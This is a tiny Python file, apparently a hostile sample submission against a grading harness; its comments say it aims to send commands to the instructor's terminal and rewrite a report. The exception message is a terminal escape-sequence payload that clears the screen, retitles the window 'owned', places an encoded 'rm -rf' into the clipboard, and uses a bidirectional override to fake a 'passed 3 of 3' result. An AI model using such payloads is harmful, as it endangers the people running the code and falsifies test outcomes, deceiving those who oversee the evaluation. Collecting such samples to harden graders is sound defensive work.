# Tries: to send commands to the instructor's terminal, and to rewrite a report.
# Earns: Descent 0, average 2
# Without protection: nothing to compare
class Descent:
    def __init__(self, *_, **__):
        raise ValueError(
            "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\r\u202epassed 3 of 3\u2066\x00\x9b31m"
        )
